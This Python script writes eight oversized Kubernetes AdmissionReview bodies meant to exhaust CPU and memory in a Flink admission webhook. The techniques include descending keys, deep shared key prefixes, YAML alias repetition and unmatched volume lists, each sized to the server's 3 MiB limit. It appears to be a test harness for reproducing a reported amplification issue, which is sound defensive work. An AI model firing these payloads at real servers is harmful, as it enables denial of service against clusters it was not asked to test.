#!/usr/bin/env python3
"""Writes the hostile AdmissionReviews of issue 12 (cost and memory amplification), each as large as
the server's 3 MiB body limit allows (or --bytes), into a directory:

  fd-external-resources   external-resources with many names, TaskManager too small (fix search runs)
  fd-descending-keys      flinkConfiguration keys in descending order (sorted-vector insertion)
  fd-nested-prefix        one long nested key prefix shared by many leaves (prefix copied per leaf)
  cm-descending-lines     a ConfigMap whose flink-conf.yaml lines come in descending order
  cm-skipped-lines        a flink-conf.yaml of lines Flink skips (one message kept per line)
  cm-yaml-nodes           a config.yaml list of tiny items (yaml-cpp builds a node per item)
  cm-yaml-alias           a config.yaml whose list repeats an alias of a long scalar
  workload-volumes        a Deployment with many volumeMounts and volumes (matched by name)

Usage: make_reviews.py OUT_DIR [--bytes N] [--only NAME]
"""
import argparse
import json
import os

LIMIT = 3 * 1024 * 1024
BUDGET = LIMIT - 1024


def review(obj, kind, group, version, resource, uid):
    return {
        "apiVersion": "admission.k8s.io/v1",
        "kind": "AdmissionReview",
        "request": {
            "uid": uid,
            "kind": {"group": group, "version": version, "kind": kind},
            "resource": {"group": group, "version": version, "resource": resource},
            "name": obj["metadata"]["name"],
            "namespace": "hostile",
            "operation": "CREATE",
            "userInfo": {"username": "attacker"},
            "object": obj,
        },
    }


def flinkdeployment(config, tm_memory="2048Mi"):
    return review({
        "apiVersion": "flink.apache.org/v1beta1",
        "kind": "FlinkDeployment",
        "metadata": {"name": "hostile", "namespace": "hostile"},
        "spec": {
            "image": "flink:1.20",
            "flinkVersion": "v1_20",
            "flinkConfiguration": config,
            "jobManager": {"resource": {"memory": "2048Mi", "cpu": 1}},
            "taskManager": {"resource": {"memory": tm_memory, "cpu": 1}},
        },
    }, "FlinkDeployment", "flink.apache.org", "v1beta1", "flinkdeployments", "uid-hostile")


def configmap(data):
    return review({
        "apiVersion": "v1",
        "kind": "ConfigMap",
        "metadata": {"name": "hostile", "namespace": "hostile"},
        "data": data,
    }, "ConfigMap", "", "v1", "configmaps", "uid-hostile")


def fill(make, budget, step_bytes):
    """The largest n (by doubling then bisection) whose review encodes within budget bytes."""
    lo, hi = 1, 1
    while len(json.dumps(make(hi), separators=(",", ":"))) <= budget:
        lo, hi = hi, hi * 2
    while hi - lo > max(1, lo // 1000):
        mid = (lo + hi) // 2
        if len(json.dumps(make(mid), separators=(",", ":"))) <= budget:
            lo = mid
        else:
            hi = mid
    return make(lo)


def external_resources(n):
    names = ";".join("r%d" % i for i in range(n))
    # 100 MiB: the TaskManager is rejected (too small), so the fix search derives it again and again.
    return flinkdeployment({"external-resources": names, "external-resource.r0.amount": "1"}, tm_memory="100Mi")


def descending_keys(n):
    return flinkdeployment({"k%07d" % i: "v" for i in range(n, 0, -1)})


def nested_prefix(n):
    # A 64 KiB key prefix over four levels, then n one-letter leaves under it.
    prefix = "p" * (16 * 1024)
    leaves = {"l%d" % i: 1 for i in range(n)}
    return flinkdeployment({prefix: {prefix: {prefix: {prefix: leaves}}}})


def descending_lines(n):
    lines = "".join("k%07d: v\n" % i for i in range(n, 0, -1))
    return configmap({"flink-conf.yaml": "taskmanager.memory.process.size: 2048m\n" + lines})


def skipped_lines(n):
    return configmap({"flink-conf.yaml": "taskmanager.memory.process.size: 2048m\n" + "x\n" * n})


def yaml_nodes(n):
    return configmap({"config.yaml": "taskmanager.memory.process.size: 2048m\nlist: [" + "a," * n + "a]\n"})


def yaml_alias(n):
    long_scalar = "s" * (BUDGET // 3)
    return configmap({"config.yaml": "taskmanager.memory.process.size: 2048m\nlong: &x " + long_scalar +
                      "\nlist: [" + "*x," * n + "*x]\n"})


def workload_volumes(n):
    obj = {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": "hostile", "namespace": "hostile"},
        "spec": {"template": {
            "metadata": {"labels": {"component": "taskmanager"}},
            "spec": {
                "containers": [{
                    "name": "taskmanager",
                    "image": "flink:1.20",
                    "args": ["taskmanager"],
                    "volumeMounts": [{"name": "m%d" % i, "mountPath": "/x%d" % i} for i in range(n)],
                }],
                # No volume matches any mount but the last one: every lookup scans the whole list.
                "volumes": [{"name": "v%d" % i, "configMap": {"name": "c"}} for i in range(n)],
            },
        }},
    }
    return review(obj, "Deployment", "apps", "v1", "deployments", "uid-hostile")


CASES = {
    "fd-external-resources": external_resources,
    "fd-descending-keys": descending_keys,
    "fd-nested-prefix": nested_prefix,
    "cm-descending-lines": descending_lines,
    "cm-skipped-lines": skipped_lines,
    "cm-yaml-nodes": yaml_nodes,
    "cm-yaml-alias": yaml_alias,
    "workload-volumes": workload_volumes,
}


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("out_dir")
    parser.add_argument("--bytes", type=int, default=LIMIT - 1024, help="size of each review (default 3 MiB - 1 KiB)")
    parser.add_argument("--only", default="")
    args = parser.parse_args()
    global BUDGET
    BUDGET = args.bytes
    os.makedirs(args.out_dir, exist_ok=True)
    for name, make in CASES.items():
        if args.only and args.only != name:
            continue
        body = json.dumps(fill(make, args.bytes, 1), separators=(",", ":"))
        with open(os.path.join(args.out_dir, name + ".json"), "w") as f:
            f.write(body)
        print("%s.json %d bytes" % (name, len(body)))


if __name__ == "__main__":
    main()
